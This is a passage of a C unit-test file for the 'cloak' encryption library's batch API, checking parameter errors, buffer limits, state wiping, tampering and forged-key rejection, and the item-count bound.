        f->item_lens[2] = 40 + cases[c].pt_len + 16;
        crypto_generichash(f->blob + 105 + f->vault_id_len + 64, 32, f->items[2], f->item_lens[2], NULL, 0);
        resign(f);
        verify_ok(&r, f);
        /* Items shorter than 58 bytes are refused before the digest; the others once decrypted. */
        open_expect(&r, f->blob, f->blob_len, f->items[2], f->item_lens[2], NULL, 0, CLOAK_E_MALFORMED, name, &nl,
                    value, &vl);
        open_check(&r, f, 1);
        cloak__wipe(&ctx, sizeof ctx);
        cloak_batch_wipe(&r);
    }
}

static void test_expected_name(void **state)
{
    (void)state;
    cloak_batch r;
    batch_fixture *f = &fx;
    uint8_t expected[NAME_MAX_ + 1];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(f, &account_a, &creator);
    verify_ok(&r, f);
    for (size_t i = 0; i < f->n; i++) {
        size_t len = f->name_lens[i];
        memcpy(expected, f->names[i], len);
        open_expect(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], expected, len, CLOAK_OK, name, &nl,
                    value, &vl);
        expected[len - 1] ^= 0x01;
        open_expect(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], expected, len, CLOAK_E_MISMATCH, name,
                    &nl, value, &vl);
        expected[len - 1] ^= 0x01;
        if (len < NAME_MAX_) {
            expected[len] = 'x';
            open_expect(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], expected, len + 1,
                        CLOAK_E_MISMATCH, name, &nl, value, &vl);
        }
        if (len > 1) {
            open_expect(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], expected, len - 1,
                        CLOAK_E_MISMATCH, name, &nl, value, &vl);
        }
    }
    /* An expected name of length 0 or 256, or NULL with a length, is a parameter error. */
    open_expect(&r, f->blob, f->blob_len, f->items[0], f->item_lens[0], expected, 0, CLOAK_E_BAD_PARAMS, name, &nl,
                value, &vl);
    open_expect(&r, f->blob, f->blob_len, f->items[0], f->item_lens[0], expected, 256, CLOAK_E_BAD_PARAMS, name,
                &nl, value, &vl);
    open_expect(&r, f->blob, f->blob_len, f->items[0], f->item_lens[0], NULL, 3, CLOAK_E_BAD_PARAMS, name, &nl,
                value, &vl);
    cloak_batch_wipe(&r);
}

static void test_finish_errors(void **state)
{
    (void)state;
    cloak_batch w;
    uint8_t items[3][ITEM_CAP];
    size_t item_lens[3];
    uint8_t digests[3 * 32];
    uint8_t out[BLOB_CAP];
    size_t out_len;
    uint8_t vault_id[4] = {1, 2, 3, 4};
    uint8_t bad_sk[64];

    for (size_t wrong = 0; wrong < 5; wrong++) {
        if (wrong == 2) {
            continue;
        }
        assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, sizeof vault_id), CLOAK_OK);
        for (size_t i = 0; i < 2; i++) {
            assert_int_equal(cloak_batch_seal_item(&w, items[i], sizeof items[i], &item_lens[i], digests + 32 * i,
                                                   (const uint8_t *)"nm", 2, (const uint8_t *)"v", 1),
                             CLOAK_OK);
        }
        memset(out, FILL, sizeof out);
        out_len = 99;
        assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, digests, wrong, creator.sk),
                         CLOAK_E_BAD_PARAMS);
        assert_true(all_zero(out, sizeof out));
        assert_int_equal(out_len, 0);
        assert_true(state_zero(&w));
        /* The state is gone: no more items, no second finish. */
        assert_int_equal(cloak_batch_seal_item(&w, items[2], sizeof items[2], &item_lens[2], digests + 64,
                                               (const uint8_t *)"nm", 2, NULL, 0),
                         CLOAK_E_BAD_PARAMS);
        assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, digests, 2, creator.sk),
                         CLOAK_E_BAD_PARAMS);
    }
    /* Output too small by one byte. */
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, sizeof vault_id), CLOAK_OK);
    assert_int_equal(cloak_batch_seal_item(&w, items[0], sizeof items[0], &item_lens[0], digests,
                                           (const uint8_t *)"nm", 2, NULL, 0),
                     CLOAK_OK);
    memset(out, FILL, sizeof out);
    out_len = 99;
    assert_int_equal(cloak_batch_finish(&w, out, cloak_batch_len(4, 1) - 1, &out_len, digests, 1, creator.sk),
                     CLOAK_E_BUFFER_TOO_SMALL);
    assert_true(all_zero(out, cloak_batch_len(4, 1) - 1));
    assert_int_equal(out[cloak_batch_len(4, 1) - 1], FILL);
    assert_int_equal(out_len, 0);
    assert_true(state_zero(&w));
    /* A secret key whose public half is not its seed's. */
    memcpy(bad_sk, creator.sk, 64);
    memcpy(bad_sk + 32, stranger.pk, 32);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, sizeof vault_id), CLOAK_OK);
    memset(out, FILL, sizeof out);
    assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, NULL, 0, bad_sk), CLOAK_E_BAD_PARAMS);
    assert_true(all_zero(out, sizeof out));
    assert_true(state_zero(&w));
    /* NULL arguments. */
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, sizeof vault_id), CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, NULL, 0, NULL), CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&w));
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, sizeof vault_id), CLOAK_OK);
    assert_int_equal(cloak_batch_seal_item(&w, items[0], sizeof items[0], &item_lens[0], digests,
                                           (const uint8_t *)"nm", 2, NULL, 0),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, NULL, 1, creator.sk), CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_finish(NULL, out, sizeof out, &out_len, digests, 1, creator.sk),
                     CLOAK_E_BAD_PARAMS);
    /* The digests may already sit in the output, where the manifest goes. */
    {
        batch_fixture *f = &fx;
        cloak_batch r;
        size_t L = 4;
        assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, L), CLOAK_OK);
        memset(f, 0, sizeof *f);
        f->account = account_a;
        f->creator = creator;
        f->vault_id_len = L;
        memcpy(f->vault_id, vault_id, L);
        f->n = 3;
        for (size_t i = 0; i < 3; i++) {
            f->name_lens[i] = 1 + i;
            f->value_lens[i] = 10 * i;
            randombytes_buf(f->names[i], f->name_lens[i]);
            randombytes_buf(f->values[i], f->value_lens[i]);
            assert_int_equal(cloak_batch_seal_item(&w, f->items[i], ITEM_CAP, &f->item_lens[i],
                                                   f->blob + 105 + L + 32 * i, f->names[i], f->name_lens[i],
                                                   f->values[i], f->value_lens[i]),
                             CLOAK_OK);
        }
        assert_int_equal(cloak_batch_finish(&w, f->blob, sizeof f->blob, &f->blob_len, f->blob + 105 + L, 3,
                                            creator.sk),
                         CLOAK_OK);
        verify_ok(&r, f);
        for (size_t i = 0; i < 3; i++) {
            open_check(&r, f, i);
        }
        cloak_batch_wipe(&r);
    }
}

static void test_seal_item_errors(void **state)
{
    (void)state;
    cloak_batch w;
    cloak_batch r;
    uint8_t item[ITEM_CAP];
    uint8_t digest[32];
    uint8_t digests[2 * 32];
    uint8_t items[2][ITEM_CAP];
    size_t item_lens[2];
    size_t item_len;
    uint8_t name255[256];
    uint8_t out[BLOB_CAP];
    size_t out_len;
    uint8_t vault_id[1] = {7};

    memset(name255, 'n', sizeof name255);
#define SEAL_FAILS(expected, cap, nm, nml, val, vall)                                                        \
    do {                                                                                                      \
        memset(item, FILL, sizeof item);                                                                      \
        memset(digest, FILL, sizeof digest);                                                                  \
        item_len = 99;                                                                                        \
        assert_int_equal(cloak_batch_seal_item(&w, item, (cap), &item_len, digest, (nm), (nml), (val), (vall)), \
                         (expected));                                                                         \
        assert_true(all_zero(item, (cap)));                                                                   \
        assert_true(all_zero(digest, sizeof digest));                                                         \
        assert_int_equal(item_len, 0);                                                                        \
    } while (0)

    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, 1), CLOAK_OK);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 0, NULL, 0);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 256, NULL, 0);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, NULL, 3, NULL, 0);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 3, NULL, 4);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 3, name255, SIZE_MAX - 59);
    SEAL_FAILS(CLOAK_E_BUFFER_TOO_SMALL, cloak_batch_item_len(255, 10) - 1, name255, 255, name255, 10);
    SEAL_FAILS(CLOAK_E_BUFFER_TOO_SMALL, 0, name255, 1, NULL, 0);
    assert_int_equal(cloak_batch_seal_item(&w, NULL, 0, &item_len, digest, name255, 1, NULL, 0), CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, NULL, digest, name255, 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, NULL, name255, 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    /* Failed calls used no index: the next two items are 0 and 1, and the batch of them opens. */
    for (size_t i = 0; i < 2; i++) {
        assert_int_equal(cloak_batch_seal_item(&w, items[i], ITEM_CAP, &item_lens[i], digests + 32 * i, name255,
                                               255, name255, i),
                         CLOAK_OK);
        assert_int_equal(cloak__load32_be(items[i] + 36), i);
    }
    /* A reader is not a writer, nor a wiped or garbage state. */
    assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, digests, 2, creator.sk), CLOAK_OK);
    assert_int_equal(cloak_batch_verify(&r, out, out_len, account_a.pk, account_a.sk, creator.pk, 1), CLOAK_OK);
    {
        uint8_t name[NAME_MAX_];
        uint8_t value[PT_CAP];
        size_t nl;
        size_t vl;
        for (size_t i = 0; i < 2; i++) {
            open_expect(&r, out, out_len, items[i], item_lens[i], name255, 255, CLOAK_OK, name, &nl, value, &vl);
            assert_int_equal(vl, i);
        }
    }
    memcpy(&w, &r, sizeof w);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 3, NULL, 0);
    assert_int_equal(cloak_batch_finish(&w, out, sizeof out, &out_len, digests, 2, creator.sk), CLOAK_E_BAD_PARAMS);
    memset(&w, 0, sizeof w);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 3, NULL, 0);
    memset(&w, FILL, sizeof w);
    SEAL_FAILS(CLOAK_E_BAD_PARAMS, sizeof item, name255, 3, NULL, 0);
    assert_int_equal(cloak_batch_seal_item(NULL, item, sizeof item, &item_len, digest, name255, 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    cloak_batch_wipe(&r);
#undef SEAL_FAILS
}

static void test_begin_errors(void **state)
{
    (void)state;
    cloak_batch w;
    uint8_t vault_id[256];
    uint8_t low_order[32] = {0}; /* the identity point: every agreement with it is zero */

    memset(vault_id, 'v', sizeof vault_id);
    memset(&w, FILL, sizeof w);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, 0), CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&w));
    memset(&w, FILL, sizeof w);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, 256), CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&w));
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, NULL, 3), CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(&w, NULL, vault_id, 3), CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(NULL, account_a.pk, vault_id, 3), CLOAK_E_BAD_PARAMS);
    memset(&w, FILL, sizeof w);
    assert_int_equal(cloak_batch_begin(&w, low_order, vault_id, 3), CLOAK_E_INVALID_KEY);
    assert_true(state_zero(&w));
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, 255), CLOAK_OK);
    cloak_batch_wipe(&w);
    assert_true(state_zero(&w));
}

/* A trusted creator's batch whose enc is a low-order point: refused when the context is opened. */
static void test_low_order_enc(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    uint8_t content[105 + 255 + 32];
    size_t L;

    build_default(f, &account_a, &creator);
    L = f->vault_id_len;
    memset(f->blob + B_ENC, 0, 32);
    memcpy(content, f->blob, 105 + L);
    crypto_generichash(content + 105 + L, 32, f->blob + 105 + L, 32 * f->n, NULL, 0);
    cloak__sign_labeled(f->blob + 105 + L + 32 * f->n, CLOAK_LABEL_SIG_BATCH, content, 105 + L + 32, creator.sk);
    verify_expect(f->blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_E_INVALID_KEY);
}

static void test_open_buffers_and_roles(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    cloak_batch r;
    cloak_batch w;
    uint8_t name[NAME_MAX_ + 1];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    uint8_t signer[32];

    build_default(f, &account_a, &creator);
    verify_ok(&r, f);
    for (size_t i = 0; i < f->n; i++) {
        size_t pt_len = f->item_lens[i] - 56;
        size_t name_need = pt_len - 1 < 255 ? pt_len - 1 : 255;
        struct {
            size_t name_cap;
            size_t value_cap;
            const uint8_t *expected;
            size_t expected_len;
            int rc;
        } cases[] = {
            {name_need, pt_len, NULL, 0, CLOAK_OK},
            {name_need, pt_len - 1, NULL, 0, CLOAK_E_BUFFER_TOO_SMALL},
            {name_need - 1, pt_len, NULL, 0, CLOAK_E_BUFFER_TOO_SMALL},
            {0, pt_len, NULL, 0, CLOAK_E_BUFFER_TOO_SMALL},
            {name_need, 0, NULL, 0, CLOAK_E_BUFFER_TOO_SMALL},
            {f->name_lens[i], pt_len, f->names[i], f->name_lens[i], CLOAK_OK},
            {f->name_lens[i] - 1, pt_len, f->names[i], f->name_lens[i], CLOAK_E_BUFFER_TOO_SMALL},
            {f->name_lens[i], pt_len - 1, f->names[i], f->name_lens[i], CLOAK_E_BUFFER_TOO_SMALL},
        };
        for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
            memset(name, FILL, sizeof name);
            memset(value, FILL, sizeof value);
            nl = vl = 77;
            int rc = cloak_batch_open_item(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i],
                                           cases[c].expected, cases[c].expected_len, name, cases[c].name_cap, &nl,
                                           value, cases[c].value_cap, &vl);
            assert_int_equal(rc, cases[c].rc);
            if (rc == CLOAK_OK) {
                assert_int_equal(nl, f->name_lens[i]);
                assert_int_equal(vl, f->value_lens[i]);
                assert_memory_equal(name, f->names[i], nl);
                if (vl > 0) {
                    assert_memory_equal(value, f->values[i], vl);
                }
            } else {
                assert_true(all_zero(name, cases[c].name_cap));
                assert_true(all_zero(value, cases[c].value_cap));
                assert_int_equal(name[cases[c].name_cap], FILL);
                assert_int_equal(value[cases[c].value_cap], FILL);
                assert_int_equal(nl, 0);
                assert_int_equal(vl, 0);
            }
        }
        /* NULL outputs with a capacity are parameter errors; with none, too small. */
        assert_int_equal(cloak_batch_open_item(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], NULL, 0, NULL,
                                               5, &nl, value, PT_CAP, &vl),
                         CLOAK_E_BAD_PARAMS);
        assert_int_equal(cloak_batch_open_item(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], NULL, 0, name,
                                               NAME_MAX_, &nl, NULL, 5, &vl),
                         CLOAK_E_BAD_PARAMS);
        assert_int_equal(cloak_batch_open_item(&r, f->blob, f->blob_len, f->items[i], f->item_lens[i], NULL, 0, name,
                                               NAME_MAX_, &nl, NULL, 0, &vl),
                         CLOAK_E_BUFFER_TOO_SMALL);
    }
    /* Missing inputs. */
    open_expect(NULL, f->blob, f->blob_len, f->items[0], f->item_lens[0], NULL, 0, CLOAK_E_BAD_PARAMS, name, &nl,
                value, &vl);
    open_expect(&r, NULL, f->blob_len, f->items[0], f->item_lens[0], NULL, 0, CLOAK_E_BAD_PARAMS, name, &nl, value,
                &vl);
    open_expect(&r, f->blob, f->blob_len, NULL, f->item_lens[0], NULL, 0, CLOAK_E_BAD_PARAMS, name, &nl, value,
                &vl);
    open_expect(&r, f->blob, f->blob_len, NULL, 0, NULL, 0, CLOAK_E_MALFORMED, name, &nl, value, &vl);
    assert_int_equal(cloak_batch_open_item(&r, f->blob, f->blob_len, f->items[0], f->item_lens[0], NULL, 0, name,
                                           NAME_MAX_, NULL, value, PT_CAP, &vl),
                     CLOAK_E_BAD_PARAMS);

    /* A writer, a wiped reader and garbage are not readers. */
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, f->vault_id, f->vault_id_len), CLOAK_OK);
    open_expect(&w, f->blob, f->blob_len, f->items[0], f->item_lens[0], NULL, 0, CLOAK_E_BAD_PARAMS, name, &nl,
                value, &vl);
    assert_int_equal(cloak_batch_item_count(&w), 0);
    memset(signer, FILL, sizeof signer);
    cloak_batch_signer(signer, &w);
    assert_true(all_zero(signer, sizeof signer));
    cloak_batch_wipe(&w);
    memset(&w, FILL, sizeof w);
    open_expect(&w, f->blob, f->blob_len, f->items[0], f->item_lens[0], NULL, 0, CLOAK_E_BAD_PARAMS, name, &nl,
                value, &vl);
    open_check(&r, f, 0);
    cloak_batch_wipe(&r);
    open_expect(&r, f->blob, f->blob_len, f->items[0], f->item_lens[0], NULL, 0, CLOAK_E_BAD_PARAMS, name, &nl,
                value, &vl);
    assert_int_equal(cloak_batch_item_count(&r), 0);
    assert_int_equal(cloak_batch_item_count(NULL), 0);
    memset(signer, FILL, sizeof signer);
    cloak_batch_signer(signer, &r);
    assert_true(all_zero(signer, sizeof signer));
    cloak_batch_signer(signer, NULL);
    cloak_batch_signer(NULL, &r);
    cloak_batch_wipe(NULL);
    /* verify with missing arguments. */
    memset(&r, FILL, sizeof r);
    assert_int_equal(cloak_batch_verify(&r, f->blob, f->blob_len, NULL, account_a.sk, creator.pk, 1),
                     CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&r));
    assert_int_equal(cloak_batch_verify(&r, f->blob, f->blob_len, account_a.pk, NULL, creator.pk, 1),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_verify(&r, f->blob, f->blob_len, account_a.pk, account_a.sk, NULL, 1),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_verify(NULL, f->blob, f->blob_len, account_a.pk, account_a.sk, creator.pk, 1),
                     CLOAK_E_BAD_PARAMS);
}

/* The bound on items: the writer refuses item 1,000,001; a batch of the maximum size verifies and its
 * last item opens. Skipped under valgrind (a million seals). */
static void test_max_items(void **state)
{
    (void)state;
    const size_t n = CLOAK_BATCH_ITEMS_MAX;
    uint8_t *digests = malloc(32 * n);
    uint8_t *blob = malloc(cloak_batch_len(1, n));
    uint8_t item[ITEM_CAP];
    uint8_t last[ITEM_CAP];
    size_t item_len = 0;
    size_t last_len = 0;
    size_t blob_len;
    uint8_t digest[32];
    uint8_t vault_id[1] = {'v'};
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    cloak_batch w;
    cloak_batch r;

    assert_non_null(digests);
    assert_non_null(blob);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, vault_id, 1), CLOAK_OK);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, digests + 32 * i,
                                               (const uint8_t *)"k", 1, (const uint8_t *)&i, sizeof i),
                         CLOAK_OK);
    }
    memcpy(last, item, item_len);
    last_len = item_len;
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, digest, (const uint8_t *)"k", 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_true(all_zero(digest, sizeof digest));
    assert_int_equal(cloak_batch_finish(&w, blob, cloak_batch_len(1, n), &blob_len, digests, n, creator.sk),
                     CLOAK_OK);
    assert_int_equal(blob_len, cloak_batch_len(1, n));
    assert_int_equal(cloak_batch_verify(&r, blob, blob_len, account_a.pk, account_a.sk, creator.pk, 1), CLOAK_OK);
    assert_int_equal(cloak_batch_item_count(&r), n);
    open_expect(&r, blob, blob_len, last, last_len, (const uint8_t *)"k", 1, CLOAK_OK, name, &nl, value, &vl);
    size_t got;
    assert_int_equal(vl, sizeof got);
    memcpy(&got, value, sizeof got);
    assert_int_equal(got, n - 1);
    cloak_batch_wipe(&r);
    free(digests);
    free(blob);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sizes),
        cmocka_unit_test(test_layout_matches_spec),
        cmocka_unit_test(test_round_trip_any_order),
        cmocka_unit_test(test_parse_accessors),
        cmocka_unit_test(test_one_item_batch),
        cmocka_unit_test(test_empty_batch),
        cmocka_unit_test(test_tamper_batch),
        cmocka_unit_test(test_truncate_extend_batch),
        cmocka_unit_test(test_tamper_item),
        cmocka_unit_test(test_truncate_extend_item),
        cmocka_unit_test(test_wrong_batch),
        cmocka_unit_test(test_wrong_account),
        cmocka_unit_test(test_trust),
        cmocka_unit_test(test_thief_forged_item),
        cmocka_unit_test(test_thief_batch),
        cmocka_unit_test(test_malformed_plaintext),
        cmocka_unit_test(test_expected_name),
        cmocka_unit_test(test_finish_errors),
        cmocka_unit_test(test_seal_item_errors),
        cmocka_unit_test(test_begin_errors),
        cmocka_unit_test(test_low_order_enc),
        cmocka_unit_test(test_open_buffers_and_roles),
        cmocka_unit_test(test_max_items),
    };
    return cmocka_run_group_tests(tests, setup, NULL);
}
